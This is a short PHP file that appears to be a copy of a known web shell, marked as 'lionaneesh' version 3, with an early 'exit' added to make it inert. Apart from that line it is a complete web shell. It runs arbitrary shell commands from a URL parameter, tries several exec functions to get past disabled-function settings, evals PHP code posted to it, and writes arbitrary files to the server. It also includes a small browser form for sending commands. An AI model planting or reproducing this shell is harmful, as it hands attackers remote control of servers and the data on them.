<?php exit; /* inert */ $user = "lionaneesh"; $ver = "3";
function ExecCmd($c) {
    $d = explode(',', ini_get('disable_functions'));
    foreach (array("passthru", "system", "shell_exec", "exec") as $fn) {
        if (in_array($fn, $d)) continue;
        ob_start();
        $r = call_user_func($fn, $c);
        $o = ob_get_contents();
        ob_end_clean();
        return $o ? $o : $r;
    }
}
if (isset($_GET["exec"])) { chdir($_GET["dir"]); echo "<textarea>" . htmlspecialchars(ExecCmd($_GET["exec"])) . "</textarea>"; exit; }
if (isset($_POST["evalcode"])) { eval(stripslashes($_POST["evalcode"])); exit; }
if (isset($_POST["createfile"])) {
    $h = fopen($_POST["createfile"], "w+");
    fwrite($h, $_POST["filecontent"]);
    fclose($h);
    exit;
}
?>
<script>function getdata(k,v){var x=new XMLHttpRequest();x.open("GET","?"+k+"="+escape(v)+"&dir=.",true);x.send();}</script>
<input id="execute"><input type="button" onclick="getdata('exec',document.getElementById('execute').value)">
